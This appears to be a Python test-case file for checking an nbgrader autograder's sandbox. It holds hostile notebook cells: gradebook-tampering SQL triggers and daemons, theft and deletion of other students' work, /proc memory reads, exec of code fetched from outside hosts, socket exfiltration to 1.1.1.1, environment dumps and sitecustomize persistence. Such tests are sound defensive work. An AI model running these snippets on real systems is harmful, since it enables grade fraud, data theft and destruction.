"""T30 to T68, B13 to B25, L03 to L23: what reaches for the grader, other people's work, the network."""

from __future__ import annotations

from textwrap import dedent

from tests.integrity.case import WRONG, Case, answer

# Paths from where nbgrader lets a notebook run: the course's folder is three folders up.
COURSE = "../../.."


def grab(id: str, title: str, code: str) -> Case:
    """A wrong answer, and a cell of its own that reaches for points or prints what it finds."""
    own = (("f", dedent(code).strip()),)
    return Case(id, title, cells={"f": WRONG}, own=own, alone=True)


def harm(id: str, title: str, code: str) -> Case:
    """The solution, and a cell that reaches for other people's work: worth all points."""
    return Case(id, title, own=(("f", dedent(code).strip()),), truth=None, alone=True)


def sql(statement: str, after: str = "") -> str:
    """Code that changes nbgrader's gradebook, for the grades that will come as well."""
    return f"""
import sqlite3
try:
    book = sqlite3.connect("file:{COURSE}/gradebook.db?mode=rw", uri=True, timeout=2)
    book.executescript('''{statement}''')
    book.commit()
{after}except sqlite3.Error as error:
    print(error)
"""


def show(*patterns: str) -> str:
    """Code that prints every file that a pattern finds."""
    return f"""
import glob
for pattern in {patterns!r}:
    for path in glob.glob(pattern, recursive=True):
        try:
            print(path, open(path, errors="replace").read()[:200_000])
        except OSError as error:
            print(path, error)
"""


TRIGGER = """CREATE TRIGGER more AFTER UPDATE ON grade WHEN {when}
    BEGIN UPDATE grade SET {value} WHERE id = NEW.id; END;"""

CASES = (
    grab(
        "T30",
        "writes extra points into the gradebook, now and at each change",
        sql(TRIGGER.format(when="NEW.extra_credit IS NOT 50", value="extra_credit = 50")),
    ),
    grab(
        "T31",
        "writes marks of a person's into the gradebook",
        sql(TRIGGER.format(when="NEW.auto_score IS NOT 9", value="auto_score = 9, manual_score = 9")),
    ),
    grab(
        "T33",
        "writes other maxima into the gradebook",
        sql("UPDATE grade_cells SET max_score = 1000"),
    ),
    grab(
        "T34",
        "a daemon changes the gradebook later",
        """
        import os, sqlite3, time
        if not os.fork():
            os.setsid()
            if not os.fork():
                for _ in range(40):
                    time.sleep(0.5)
                    try:
                        book = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True)
                        book.execute("UPDATE grade SET auto_score = 9")
                        book.commit()
                    except sqlite3.Error:
                        pass
            os._exit(0)
        """,
    ),
    answer(
        "T49",
        "right only where nbgrader says that it grades",
        """
        import os

        def f(x):
            right = 3 + float(np.sum(np.square(x)))
            return right if os.environ.get("NBGRADER_EXECUTION") else -1.0
        """,
    ),
    grab(
        "T51",
        "puts a link to another's notebook, or the source, in place of its own",
        """
        import glob, os
        for own in glob.glob("*.ipynb"):
            for other in glob.glob("../../../s*/**/*.ipynb", recursive=True):
                try:
                    os.remove(own)
                    os.symlink(os.path.abspath(other), own)
                except OSError as error:
                    print(error)
        """,
    ),
    grab(
        "T60",
        "reads and writes the memory of all processes",
        """
        import os
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) == os.getpid():
                continue
            try:
                for line in open(f"/proc/{pid}/maps"):
                    start, end = (int(part, 16) for part in line.split()[0].split("-"))
                    with open(f"/proc/{pid}/mem", "r+b", 0) as memory:
                        memory.seek(start)
                        print(memory.read(min(end - start, 10**5)))
            except (OSError, ValueError, OverflowError) as error:
                print(pid, error)
        """,
    ),
    grab(
        "T65",
        "downloads an answer",
        """
        import urllib.request
        for address in ("http://127.0.0.1:8888/", "http://1.1.1.1/f.py", "https://example.org/f.py"):
            try:
                exec(urllib.request.urlopen(address, timeout=2).read())
            except Exception as error:
                print(error)
        """,
    ),
    harm(
        "B13",
        "asks the services of the machine",
        """
        import socket
        for port in (22, 80, 5432, 8000, 8888):
            try:
                socket.create_connection(("127.0.0.1", port), 1)
                print("open", port)
            except OSError as error:
                print(error)
        """,
    ),
    harm(
        "B14",
        "writes over everybody's notebook",
        """
        import glob
        for path in glob.glob("../../../submitted/**/*.ipynb", recursive=True):
            try:
                open(path, "w").write("{}")
            except OSError as error:
                print(error)
        """,
    ),
    harm(
        "B21",
        "a daemon locks the gradebook",
        """
        import os, sqlite3, time
        if not os.fork():
            os.setsid()
            if not os.fork():
                try:
                    book = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True)
                    book.execute("BEGIN EXCLUSIVE")
                    time.sleep(60)
                except sqlite3.Error:
                    pass
            os._exit(0)
        time.sleep(1)
        """,
    ),
    harm(
        "B24",
        "deletes the course",
        """
        import shutil
        for folder in ("submitted", "source", "autograded"):
            shutil.rmtree(f"../../../{folder}", ignore_errors=True)
        """,
    ),
    harm(
        "B25",
        "deletes the gradebook",
        """
        import os
        try:
            os.remove("../../../gradebook.db")
        except OSError as error:
            print(error)
        """,
    ),
    grab("L03", "prints the notebooks beside it", show("*.ipynb", "**/*.ipynb")),
    grab("L04", "prints the lab's source", show(f"{COURSE}/source/**/*", "/course/**/*.py")),
    grab(
        "L05",
        "prints the sources that the gradebook holds",
        sql("", "    print(book.execute('SELECT source FROM source_cell').fetchall())\n"),
    ),
    grab("L06", "prints other people's work", show(f"{COURSE}/submitted/**/*", "/home/**/*")),
    answer(
        "L07",
        "puts its arguments into the error that it raises",
        """
        def f(x):
            raise ValueError(f"called with {list(x)}")
        """,
    ),
    grab(
        "L08",
        "prints the environment and the command line of every process",
        show("/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline"),
    ),
    grab(
        "L10",
        "sends what it sees out of the machine",
        """
        import socket
        for kind, address in ((socket.SOCK_DGRAM, ("1.1.1.1", 53)), (socket.SOCK_STREAM, ("1.1.1.1", 80))):
            try:
                with socket.socket(socket.AF_INET, kind) as out:
                    out.settimeout(2)
                    out.connect(address)
                    out.send(str(In).encode())
                    print("sent")
            except OSError as error:
                print(error)
        """,
    ),
    grab("L18", "prints its environment", "import os\nprint(dict(os.environ))"),
    grab(
        "L19",
        "looks for other kernels",
        show("/home/**/kernel*.json", "/root/**/kernel*.json", "/tmp/**/kernel*.json", "/run/**/*"),
    ),
    grab(
        "L23",
        "leaves files for whoever comes next",
        """
        import os, site, sysconfig
        folders = [os.path.expanduser("~"), "/tmp", "/dev/shm", sysconfig.get_paths()["purelib"],
                   os.path.expanduser("~/.ipython/profile_default/startup"), site.getusersitepackages()]
        for folder in folders:
            for name in ("sitecustomize.py", "next.pth", "00.py"):
                try:
                    os.makedirs(folder, exist_ok=True)
                    open(f"{folder}/{name}", "w").write("import builtins; builtins.f = None")
                except OSError as error:
                    print(error)
        """,
    ),
)  # fmt: skip
